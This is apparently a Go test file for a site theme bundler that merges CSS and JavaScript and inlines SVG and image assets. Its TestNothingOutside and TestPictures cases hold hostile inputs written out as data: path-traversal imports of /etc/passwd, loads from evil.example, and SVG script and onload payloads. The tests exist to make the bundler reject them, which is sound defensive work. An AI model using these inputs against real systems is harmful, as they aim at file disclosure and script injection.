package theme

import (
	"crypto/sha256"
	"encoding/base64"
	"net/url"
	"os"
	"reflect"
	"strings"
	"testing"
)

const bundled = `
-- base/theme.md --
---
name: base
view: 1
tokens: {palette: {ink: "#000"}, intent: {text: ink}}
standalone: [crisis]
---
-- base/parts/alert/alert.css --
.alert{color:var(--text);background:url(icon.svg)}
-- base/parts/alert/icon.svg --
<svg xmlns="http://www.w3.org/2000/svg"/>
-- base/parts/page/page.css --
@charset "UTF-8";
/* a reset */
html { margin: 0 }
.é::before { content: "é" }
-- base/parts/crisis/crisis.css --
@import "../alert/shared.css";
.crisis{background:url("../../assets/big.png")}
.crisis:after{content:"</style><script>"}
-- base/parts/alert/shared.css --
.shared{inset:0}
-- base/parts/page/page.js --
const a = window.b?.c ?? 1;
document.title = a;
-- base/parts/alert/alert.js --
import { name } from "./name.js";
document.body.id = name;
-- base/parts/alert/name.js --
export const name = "alert";
-- base/assets/big.png --
`

func big() string { return bundled + strings.Repeat("x", 3000) }

func file(look *Look, path string) string {
	for _, f := range look.Files {
		if f.Path == path {
			return string(f.Bytes)
		}
	}
	return ""
}

func TestBundle(t *testing.T) {
	theme := load(t, themes(plainTheme, big()), "base")
	look, _ := theme.Look(nil)
	style := file(look, look.Style)
	icon := `"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'/%3E"`
	picture, ok := theme.Asset("big.png")
	want := `@charset "UTF-8";:root{--text:#000000}html{margin:0}.é:before{content:"é"}.alert{color:var(--text);background:url(` + icon + `)}` +
		`.shared{top:0;right:0;bottom:0;left:0}.crisis{background:url(./` + strings.TrimPrefix(picture, "assets/") + `)}.crisis:after{content:"<\/style><script>"}`
	if style != want || !ok {
		t.Errorf("the style is\n%s, not\n%s", style, want)
	}
	script := look.Code
	if strings.Contains(script, "?.") || strings.Contains(script, "import") || strings.Contains(script, "\n") ||
		strings.Index(script, "document.title") > strings.Index(script, "document.body.id") || !strings.HasPrefix(script, "(()=>{") {
		t.Errorf("the script is %s", script)
	}
	var paths []string
	for _, f := range look.Files {
		paths = append(paths, f.Path)
	}
	if len(paths) != 2 || paths[0] != picture || paths[1] != look.Style {
		t.Errorf("files: %v", paths)
	}
	if strings.Contains(look.Inline, "./") || strings.Contains(look.Inline, "</") || !strings.HasPrefix(look.Inline, ":root{") || !strings.Contains(look.Inline, ".crisis{background:url(data:image/png;base64,") || strings.Contains(look.Inline, ".alert") {
		t.Errorf("the inline style is %.300s", look.Inline)
	}
	hash := sha256.Sum256([]byte(look.Inline))
	if look.InlineHash != "'sha256-"+base64.StdEncoding.EncodeToString(hash[:])+"'" {
		t.Errorf("the hash is %s", look.InlineHash)
	}
}

func TestNoScripts(t *testing.T) {
	look, _ := load(t, themes(plainTheme), "base").Look(nil)
	if look.Code != "" || look.Worker != "" || len(look.Files) != 1 {
		t.Errorf("a theme without scripts sends %q, %q and %v", look.Code, look.Worker, look.Files)
	}
}

// A drawing within a style is text that reads as it did in its file, and can end neither the address nor a page's style.
func TestDrawingsInStylesStayText(t *testing.T) {
	for _, drawing := range []string{
		"<svg xmlns=\"http://www.w3.org/2000/svg\">\n  <path d=\"M0 0\n h9\" fill=\"#000\"/>\n</svg>\n",
		`<svg><text font-family="'A B', c">50% it's (\) "so" </text></svg>`,
		`<svg><text font-family='"A B", c'>é &amp; x</text></svg>`,
	} {
		address := inlined(&source{path: "assets/x.svg", bytes: []byte(drawing)})
		escaped, isText := strings.CutPrefix(address, "data:image/svg+xml,")
		got, err := url.PathUnescape(escaped)
		want := strings.NewReplacer("\n  <", "<", "\n<", "<", "\n h", " h").Replace(strings.TrimSpace(drawing))
		if !strings.Contains(drawing, "'") {
			want = strings.ReplaceAll(want, `"`, "'")
		}
		if err != nil || got != want || !isText || strings.ContainsAny(address, "<>#\"\n\\") {
			t.Errorf("%s becomes %s, which reads %s (%v)", drawing, address, got, err)
		}
		if activeSVG([]byte(got)) != "" {
			t.Errorf("%s cannot be read any more", got)
		}
	}
}

// A worker is a script of its own: no page runs it, and it may import what a page's script imports too.
func TestWorker(t *testing.T) {
	theme := load(t, themes(plainTheme, `
-- base/parts/keep/keep.js --
import { name } from "./name.js";
document.title = name;
-- base/parts/keep/worker.js --
import { name } from "./name.js";
self.addEventListener("fetch", () => console.log(name ?? "none"));
-- base/parts/keep/name.js --
export const name = "kept";
-- base/parts/worker/worker.js --
self.addEventListener("install", () => {});
`), "base")
	look, _ := theme.Look(nil)
	if strings.Contains(look.Code, "addEventListener") || !strings.Contains(look.Code, "document.title") {
		t.Errorf("the pages' script is %s", look.Code)
	}
	if w := look.Worker; strings.Contains(w, "document") || strings.Contains(w, "??") || strings.Contains(w, "import") ||
		!strings.HasPrefix(w, "(()=>{") || !strings.Contains(w, `"kept"`) || strings.Index(w, `"fetch"`) > strings.Index(w, `"install"`) {
		t.Errorf("the worker is %s", look.Worker)
	}
	for _, f := range look.Files {
		if strings.HasSuffix(f.Path, ".js") {
			t.Errorf("the site decides where scripts go, and %s is among the files", f.Path)
		}
	}
}

func TestBundlesAreStable(t *testing.T) {
	first, _ := load(t, themes(plainTheme, big()), "base").Look(nil)
	for range 5 {
		again, _ := load(t, themes(plainTheme, big()), "base").Look(nil)
		if !reflect.DeepEqual(first, again) {
			t.Fatal("two loads differ")
		}
	}
	changed, _ := load(t, themes(plainTheme, big(), "-- base/parts/page/page.css --\nhtml{margin:1px}"), "base").Look(nil)
	if changed.Style == first.Style || changed.Code != first.Code {
		t.Error("paths do not follow what is at them")
	}
}

// TestNothingOutside holds that no path in a style or script leads out of the theme.
func TestNothingOutside(t *testing.T) {
	t.Chdir(t.TempDir())
	for _, name := range []string{"canary.css", "canary.js", "canary.png"} {
		if err := os.WriteFile(name, nil, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for _, c := range []struct{ file, text string }{
		{"css", `@import "/etc/passwd";`},
		{"css", `@import "../../../../../../etc/passwd";`},
		{"css", `@import url(file:///etc/passwd);`},
		{"css", `a{background:url(../../../../etc/passwd)}`},
		{"css", `a{background:url(/etc/hostname)}`},
		{"css", `a{background:url(//evil.example/x.png)}`},
		{"css", `a{background:url("https://evil.example/x.png")}`},
		{"css", `a{background:image-set("https://evil.example/x.png" 1x)}`},
		{"css", `@import "https://evil.example/x.css";`},
		{"js", `"/*"; import("./" + location.hash + ".js"); "*/"`},
		{"css", `@import "canary.css" layer(y);`},
		{"css", `@import "./canary.css";`},
		{"css", `a{background:url(canary.png)}`},
		{"js", `import "./canary.js";`},
		{"js", `import "../../canary.js";`},
		{"css", `a{background:url(data:text/html,x)}`},
		{"js", `import "/etc/passwd";`},
		{"js", `import "../../../../../../etc/passwd";`},
		{"js", `import x from "fs"; x();`},
		{"js", `import x from "https://evil.example/x.js"; x();`},
		{"js", `import("./" + location.hash + ".js");`},
		{"js", `require("./" + location.hash + ".json");`},
		{"js", `import /* x */ ("./card.js");`},
		{"js", `require("/etc/passwd");`},
		{"js", `export * from "../../../../etc/hosts";`},
	} {
		theme, problems := Load(themes(plainTheme, "-- base/parts/card/card."+c.file+" --\n"+c.text+"\n"), "base")
		if theme != nil || len(problems) == 0 {
			t.Errorf("%s is let through", c.text)
			continue
		}
		for _, p := range problems {
			if p.Place.File != "themes/base/parts/card/card."+c.file || p.Place.Line != 1 || strings.Contains(p.Text, "root:") {
				t.Errorf("%s: %s", c.text, printed(problems))
			}
		}
	}
}

func TestPictures(t *testing.T) {
	for _, c := range []struct{ inside, holds string }{
		{`<path d="M0 0"/>`, ""},
		{`<use href="#a"/>`, ""},
		{`<rect fill="url(#g)"/>`, ""},
		{`<script>alert(1)</script>`, "<script>"},
		{`<g onload="x"/>`, "the attribute onload"},
		{`<use href="other.svg#a"/>`, "a link to something outside itself"},
		{`<rect fill="url(https://evil.example)"/>`, "a link to something outside itself"},
		{`<foreignObject/>`, "<foreignobject>"},
		{`<g>`, "XML that cannot be read"},
	} {
		if got := activeSVG([]byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">` + c.inside + `</svg>`)); got != c.holds {
			t.Errorf("%s holds %q, not %q", c.inside, got, c.holds)
		}
	}
	if got := activeSVG([]byte(`<!DOCTYPE svg [<!ENTITY a "b">]><svg/>`)); got != "a document type" {
		t.Errorf("a document type is %q", got)
	}
}
